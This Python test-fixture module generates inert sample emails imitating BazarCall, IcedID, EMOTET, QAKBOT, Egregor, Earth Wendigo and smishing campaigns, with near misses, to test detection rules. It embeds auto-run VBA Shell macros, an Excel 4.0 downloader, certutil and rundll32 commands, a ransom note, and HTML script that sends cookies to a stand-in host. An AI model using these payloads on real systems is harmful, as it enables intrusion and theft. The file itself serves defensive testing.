# SPDX-License-Identifier: Apache-2.0
"""Inert mails of named campaigns, their near misses and copycats; each shows one behaviour.

Hosts end in .test, addresses are of 192.0.2.0/24, macros are text that nothing runs."""
import base64, os, sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [os.path.join(HERE, '..', 'fixture'), os.path.join(HERE, '..', 'fixture', 'office')]
import make_vba, make_xlm, zips  # noqa: E402
import biff  # noqa: E402
from formula import Fn, Missing, Ref, User, join  # noqa: E402

TO = 'Hanako Yamada <hanako@recipient.test>'
HISTORY = ['', 'On Mon, Feb 1, 2021 at 9:00 AM Hanako Yamada <hanako@recipient.test> wrote:',
           '> Could you send the figures for March again?', '> Hanako']


def mail(subject, body, files=(), sender='Petra Lind <petra@flowers.test>', date='Mon, 15 Mar 2021 17:08:57 +0000',
         message_id='<20210315170857.5114@flowers.test>', html=None, headers=()):
    """One mail; FILES is of (name, bytes)."""
    word = lambda s: s if s.isascii() else '=?utf-8?B?%s?=' % base64.b64encode(s.encode()).decode()
    lines = ['From: ' + sender, 'To: ' + TO, 'Subject: ' + word(subject), 'Date: ' + date, 'Message-ID: ' + message_id,
             *headers, 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary=b1', '', '--b1',
             'Content-Type: text/plain; charset=utf-8', 'Content-Transfer-Encoding: 8bit', '', body]
    if html is not None:
        lines += ['--b1', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: 8bit', '', html]
    for name, data in files:
        lines += ['--b1', 'Content-Type: application/octet-stream', 'Content-Transfer-Encoding: base64',
                  'Content-Disposition: attachment; filename="%s"' % name, '', base64.encodebytes(data).decode()]
    return '\n'.join(lines + ['--b1--', '']).encode()


def archive(*members, password=None):
    return zips.make(*[zips.Member(name, data, 8, *([password] if password else [])) for name, data in members])


def macro(command=None):
    act = '  Shell "%s", 0\n' % command if command else '  MsgBox "hello"\n'
    return make_vba.doc({'ThisDocument': 'Sub AutoOpen()\n%sEnd Sub\n' % act})


def fetches(path):
    """An Excel 4.0 workbook that registers URLDownloadToFileA and asks for http://192.0.2.7/PATH."""
    first = [(0, 0, Fn('REGISTER', 'URLMON', 'URLDownloadToFileA', 'JJCCBB', 'Dl', Missing(), 1, 9)),
             (1, 0, Fn('GOTO', Ref(0, 0, 'Macro2')))]
    second = [(0, 0, User('Dl', 0, join('http://192.0.2.7/', path), '..\\SOT.GOT', 0, 0)), (1, 0, Fn('HALT'))]
    return make_xlm.xls({'sheets': [('Sheet1', 0, False, []), ('Macro1', 1, True, first), ('Macro2', 1, True, second)],
                         'names': [('Auto_Open', True, Ref(0, 0, 'Macro1')), ('Dl', False, None)]})


TRIAL = ('Dear customer,\n\nyour free trial period ends in the next 3 days. Your card will be charged $89.99 per month '
         'automatically. If you want to cancel the subscription, call our support at +1 (888) 555-0142.%s\n')
CLAIM = ('This is Melissa. Your website or a website that your company hosts is infringing on my copyrighted images, '
         'used without my permission. Under 17 U.S.C. 504 I may recover statutory damage of up to $130,000, and this is '
         'a DMCA notice of copyright infringement.%s\n')


def bazarcall():
    """T1 to T3.  Rows: name, mail, names that must be `named`, rules that must and must not say so."""
    none, both = (), ('bazarcall-subject-number', 'bazarcall-shape')
    yield 't1-number-in-subject', mail('Premium membership notification BRV21250919908', TRIAL % ''), ['BazarCall'], both, none
    yield 't1-number-in-body', mail('Thank you for using your free trial', TRIAL % '\nCustomer ID: KZ4471902213'), \
        ['BazarCall'], both, none
    yield 't1-order-2021-09', mail('Hanako Yamada, your order is on its way', 'Your order TK310992214 for 310.99 USD is '
        'placed and your card will be charged. A fee is charged independently. To cancel the order call our support, '
        'Mon-Fri, 1 888 555 0142.'), ['BazarCall'], both, none
    yield 't1-trial-2022-03', mail('Your trial period is over! The payment will be processed soon', 'Your subscription '
        'is paid automatically in the next 3 days. If you did not make this order, please contact us at +1 (888) 555-0142 '
        'to cancel and get a refund.', sender='hjk4471 <hjk4471qwe@yahoo.com>'), ['BazarCall'], ('bazarcall-trial-over',), none
    yield 't1-keyword-without-number', mail('Your premium membership', 'Thank you. Reception: +1 (888) 555-0142.'), [], none, both
    yield 't1-number-without-keyword', mail('Parcel BRV21250919908', 'It arrives tomorrow. Driver: +1 (888) 555-0142.'), \
        [], none, both
    yield 't1-eight-digits', mail('Premium membership notification BRV21250919', 'Reception: +1 (888) 555-0142.'), [], none, both
    yield 't1-near-trial-told', mail('Your free trial is over', 'We hope you liked it. Nothing will happen now.'), [], none, \
        ('bazarcall-trial-over',)
    yield 't1-copycat-subject-only', mail('Order notification BRV21250919908', 'See https://shop.test/orders for it.'), \
        [], ('bazarcall-subject-number',), ('bazarcall-shape',)
    lure = TRIAL % '\nCustomer ID: KZ4471902213\n%s'
    for name, links, pair in (('cancel', 'http://medsub.test/account http://medsub.test/cancel.php', True),
                              ('download', 'http://medsub.test/case http://medsub.test/download.php', True),
                              ('crossed', 'http://medsub.test/case http://medsub.test/cancel.php', False),
                              ('alone', 'http://medsub.test/download.php', False)):
        rule = ('bazarcall-url-pair',)
        yield 't2-pair-' + name, mail('Your free trial notice', lure % links), ['BazarCall'] if pair else [], \
            rule if pair else none, none if pair else rule
    yield 't2-copycat-pair-only', mail('Minutes', 'http://medsub.test/account http://medsub.test/cancel.php'), [], rule, none
    for length, hit in ((13, False), (14, True), (15, False)):
        rule = ('bazarcall-config-host',)
        body = 'http://' + 'abcdefghijklmno'[:length] + '.xyz/config.php'
        yield 't2-config-%d' % length, mail('Minutes', body), [], rule if hit else none, none if hit else rule
    rule = ('bazarcall-certutil-copy',)
    whole = 'cmd /c mkdir C:\\Users\\Public\\x && copy C:\\Windows\\System32\\certutil.exe C:\\Users\\Public\\x\\y.exe'
    yield 't3-command', mail('Form', 'The form.', [('form.doc', macro(whole))]), [], rule, none
    yield 't3-near-no-mkdir', mail('Form', 'The form.', [('form.doc', macro(whole[whole.index('copy'):]))]), [], none, rule
    yield 't3-near-other-program', mail('Form', 'The form.', [('form.doc', macro(whole.replace('certutil', 'notepad')))]), \
        [], none, rule


def icedid():
    """T4, T5, T6, T23 and the Japanese wave."""
    none, serial = (), ('icedid-serial-date-url',)
    for name, path, days in (('same-day', '44270.7145450231.dat', 0), ('two-days', '44272.1145450231.dat', 2)):
        book = 'CompensationClaim-605614143-03152021'
        packed = archive((book + '.xls', fetches(path)))
        yield 't4-' + name, mail('Compensation claim 605614143', 'The details are attached.', [(book + '.zip', packed)]), \
            ['IcedID'], serial + ('icedid-claim-zip',), none
    yield 't4-copycat-link-only', mail('Data', 'http://192.0.2.7/44270.7145450231.dat'), [], serial, none
    yield 't4-near-other-day', mail('Data', 'http://192.0.2.7/44290.7145450231.dat'), [], none, serial
    yield 't4-near-four-digits', mail('Data', 'http://192.0.2.7/4427.7145450231.dat'), [], none, serial
    yield 't4-near-short-number', mail('Claim', 'Attached.', [('claim-6056-03152021.zip', archive(('claim-6056-03152021.xls',
        fetches('a.gif'))))]), [], none, serial + ('icedid-claim-zip', 'icedid-now-url')
    yield 't4-near-name-only', mail('Claim', 'Attached.', [('CompensationClaim-605614143-03152021.zip',
        archive(('CompensationClaim-605614143-03152021.xls', make_xlm.xls({'sheets': [('Sheet1', 0, False, [
            (0, 0, ('=', 'Price list'))])], 'names': []}))))]), [], ('icedid-claim-zip',), serial
    local = 'Message-ID', '<9E7769B10F4205B4907A70C31012F037@127.0.0.1>'
    apple = ['X-Mailer: Apple Mail (2.3445.104.17)']
    body = '\n'.join(['Good afternoon,', '', 'please see the attachment.', 'Password: 9399557', *HISTORY])
    packed = archive(('legal paper.05.21.doc', macro('cmd /c start x')), password=b'9399557')
    trio = ('ta551-message-id', 'ta551-archive-name', 'ta551-document-name')
    yield 't5-trio', mail('Re: figures March', body, [('request.zip', packed)], message_id=local[1], headers=apple), \
        ['TA551', 'IcedID'], trio, none
    yield 't5-near-no-reply', mail('Figures March', 'Hello', message_id=local[1], headers=apple), [], none, trio
    yield 't5-near-other-mailer', mail('Re: figures', 'Hello', message_id=local[1]), [], none, trio
    yield 't5-near-short-id', mail('Re: figures', 'Hello', message_id='<9E7769B1@127.0.0.1>', headers=apple), [], none, trio
    yield 't5-copycat-trio-only', mail('Re: figures', 'Hello', message_id=local[1], headers=apple), [], trio[:1], none
    other = archive(('notes.doc', macro()), password=b'9399557')
    yield 't5-copycat-archive-only', mail('Figures', 'Password: 9399557', [('request.zip', other)]), [], trio[1:2], none
    ja = 'お世話になっております。\n添付ファイルをご確認ください。\nパスワード: 9399557\n' + '\n'.join(HISTORY)
    yield 'icedid-ja', mail('Re: 3月の資料', ja, [('info.zip', archive(('資料.doc', macro()), password=b'9399557'))]), \
        ['IcedID'], ('icedid-ja-reply', 'ta551-archive-name'), none
    yield 'icedid-ja-near-no-password', mail('Re: 3月の資料', '添付ファイルをご確認ください。'), [], none, ('icedid-ja-reply',)
    marks = ('icedid-xlm-download', 'attachment-macro-auto', 'attachment-macro-hidden-sheet')
    for kind, data in (('xls', make_xlm.xls(make_xlm.icedid())), ('xlsm', make_xlm.archive(biff.xlsm_parts(make_xlm.icedid()))),
                       ('xlsb', make_xlm.archive(biff.xlsb_parts(make_xlm.icedid())))):
        yield 't6-' + kind, mail('Claim', 'Attached.', [('claim.' + kind, data)]), ['IcedID'], marks + ('icedid-now-url',), none
    plain = {'sheets': [('Sheet1', 0, False, [(0, 0, ('=', 'Price list'))]), ('Notes', 1, False, [])], 'names': []}
    yield 't6-near-no-macro', mail('Prices', 'Attached.', [('prices.xls', make_xlm.xls(plain))]), [], none, marks
    rule = ('ta551-document-name',)
    for i, name in enumerate(['details,05.17.21.doc', 'file.05.21.doc', 'legal paper.05.21.doc', 'ordain_05.010.2021.doc',
                              'inquiry-05.10.21.doc', 'charge 05.17.2021.doc']):
        yield 't23-%d' % i, mail('Paper', 'Attached.', [(name, b'text')]), [], rule, none
    for i, name in enumerate(['Details,05.17.21.doc', 'details,05.17.21.docx', 'details051721.doc', '05.17.21.doc', 'notes.doc',
                              'file2.05.21.doc']):
        yield 't23-near-%d' % i, mail('Paper', 'Attached.', [(name, b'text')]), [], none, rule


def threads():
    """EMOTET, QAKBOT and Stolen Images."""
    none, reply = (), '\n'.join(['Hello,', '', 'see the attached document.', *HISTORY])
    yield 'emotet-reply', mail('Re: figures March', reply, [('figures.doc', macro('cmd /c start x'))]), ['EMOTET'], \
        ('emotet-reply-macro',), none
    yield 'emotet-near-no-macro', mail('Re: figures', reply, [('figures.txt', b'text')]), [], none, ('emotet-reply-macro',)
    yield 'emotet-near-no-thread', mail('Figures', 'Attached.', [('figures.doc', macro())]), [], none, ('emotet-reply-macro',)
    link = '\n'.join(['Hi,', '', 'the file you need: http://garden.test/rerum/quia-7712.zip', 'File password: U523', *HISTORY])
    yield 'qakbot-link', mail('Re: salary bands', link), ['QAKBOT'], ('qakbot-archive-link',), none
    yield 'qakbot-copycat-no-thread', mail('Re: salary bands', '\n'.join(link.split('\n')[:4])), [], ('qakbot-archive-link',), none
    yield 'qakbot-near-no-password', mail('Re: salary bands', link.replace('File password: U523', '')), [], none, \
        ('qakbot-archive-link',)
    where = ' See the proof: https://%s\n'
    page = 'sites.google.com/view/id7712340112/home'
    yield 'stolen-images', mail('Contact form', CLAIM % (where % page)), ['Stolen Images'], none, none
    yield 'stolen-images-storage', mail('Form submission', CLAIM % (where % 'storage.googleapis.com/b7/f/7.html?l=1')), \
        ['Stolen Images'], none, none
    yield 'stolen-images-copycat-claim', mail('Contact form', CLAIM % ''), [], ('stolen-images-claim',), none
    yield 'stolen-images-copycat-link', mail('Our club', 'https://' + page), [], ('stolen-images-link',), none
    yield 'stolen-images-near-site', mail('Our club', 'https://sites.google.com/view/choir/home'), [], none, \
        ('stolen-images-link', 'stolen-images-claim')


def egregor():
    """T20."""
    note = '%Greetings2target%\nYour network was locked, your data was taken. Contact us in 3 days.\n%egregor_data% AAAA\n'
    command = '@echo off\nrundll32.exe C:\\Users\\Public\\q.dll,DllRegisterServer -passegregor10 --nomimikatz\n'
    none, rule = (), ('egregor-note',)
    yield 't20-note', mail('Files', 'Found this.', [('RECOVER-FILES.txt', note.encode())]), ['Egregor'], rule, none
    yield 't20-command', mail('Files', 'Found these.', [('RECOVER-FILES.txt', b'locked'), ('run.bat', command.encode())]), \
        ['Egregor'], ('egregor-command-line', 'egregor-note-name'), none
    yield 't20-copycat-name', mail('Files', 'Found this.', [('RECOVER-FILES.txt', b'shopping list')]), [], \
        ('egregor-note-name',), rule
    yield 't20-copycat-note', mail('Files', 'Found this.', [('readme.txt', note.encode())]), [], rule, none
    yield 't20-near-name', mail('Files', 'Found this.', [('RECOVERY-FILES.txt', b'shopping list')]), [], none, \
        ('egregor-note-name',)
    yield 't20-near-one-mark', mail('Files', 'Found this.', [('readme.txt', b'%egregor_data% is its mark')]), [], none, rule
    yield 't20-near-command', mail('Files', 'See.', [('run.bat', command.replace('-passegregor10', '').encode())]), [], none, \
        ('egregor-command-line',)


STAGES = {
    'suggest': '<img src=x onerror="s=document.createElement(\'script\');s.src=\'https://mail-tw.test/a.js\'">',
    'steal': '<script>new Image().src="https://mail-tw.test/c?"+document.cookie</script>',
    'spread': '<script>fetch("/settings/signature",{method:"POST",body:me})</script>',
    'worker': '<script>navigator.serviceWorker.register("/upload/sw.js",{scope:"/"})</script>',
    'socket': '<script>w=new WebSocket("wss://mail-tw.test/");w.onmessage=function(m){eval(m.data)}</script>',
}
STAGE_RULE = {'suggest': 'wendigo-suggest', 'steal': 'wendigo-steal', 'spread': 'wendigo-spread',
              'worker': 'wendigo-service-worker', 'socket': 'wendigo-websocket'}


def wendigo():
    """T19: three of five stages name it, fewer do not."""
    import itertools
    for count in (1, 2, 3, 5):
        for chosen in itertools.combinations(STAGES, count):
            page = '<html><body><p>Programme attached.</p>%s</body></html>' % ''.join(STAGES[s] for s in chosen)
            yield 't19-' + '-'.join(chosen), mail('Programme', 'Programme', html=page), \
                ['Earth Wendigo'] if count >= 3 else [], tuple(STAGE_RULE[s] for s in chosen), ()
    app = '<script>if("serviceWorker" in navigator)navigator.serviceWorker.register("/sw.js")</script>'
    chat = ('<script>w=new WebSocket("wss://chat.test/");w.onmessage=function(m){list.textContent+=m.data}</script>'
            '<form><input autocomplete="off" name="signature"></form>')
    yield 't19-twin-app', mail('App page', 'See', [('app.html', app.encode())]), [], (), ('wendigo-websocket', 'wendigo-steal')
    yield 't19-twin-chat', mail('Chat page', 'See', [('chat.html', chat.encode())]), [], (), \
        ('wendigo-websocket', 'wendigo-spread', 'wendigo-suggest', 'wendigo-service-worker')


SMS = {
    'bank': ['【横浜銀行】セキュリティ強化のため、ご本人様確認が必要です。 http://bk.test/a',
             'お客様の口座が不正利用された可能性があります。再開手続きはこちら http://bk.test/b',
             '特別定額給付金のお振込みについて、ご本人確認をお願いします。 http://bk.test/c'],
    'parcel': ['お荷物のお届けにあがりましたが不在の為持ち帰りました。ご確認ください。 http://px.test/a',
               '置き配を完了しました。配達写真をご確認ください http://px.test/b'],
    'bill': ['【ドコモ】ご利用料金が高額になっています。ご確認ください http://dc.test/a',
             'ご利用料金のお支払い確認が取れておりません。 http://dc.test/b'],
    'lawsuit': ['訴訟最終告知のお知らせ。訴状が提出されました。詳細 http://so.test/a', '未納料金について法的手続きを開始します。 http://so.test/b'],
    'quake': ['地震速報: 震度6の地震が予測されます。避難情報はこちら http://eq.test/a', '緊急地震警報 アプリを更新してください http://eq.test/b'],
}
SMS_HAM = ['明日の打ち合わせは14時からでお願いします。 https://meet.test/a', '給付金の申請期限は来月末です。窓口でご相談ください。',
           '本日の避難訓練は地震を想定して行います。集合は校庭です。', '先日の訴訟に関する社内勉強会の資料です。 https://wiki.test/b',
           'ご不在でしたので、また来週ご連絡いたします。', '今月の電気の使用量をお知らせします。']


def smishing():
    """T10: each text is told as its own kind and as no other; ordinary texts are none."""
    rules = {kind: 'smishing-ja-' + kind for kind in SMS}
    for kind, texts in SMS.items():
        for i, text in enumerate(texts):
            yield 't10-%s-%d' % (kind, i), mail('SMS', text, sender='+819000000000 <sms@gateway.test>'), [], (rules[kind],), \
                tuple(r for k, r in rules.items() if k != kind)
    for i, text in enumerate(SMS_HAM):
        yield 't10-ham-%d' % i, mail('SMS', text), [], (), tuple(rules.values())


def all_cases():
    for family in (bazarcall, icedid, threads, egregor, wendigo, smishing):
        yield from family()
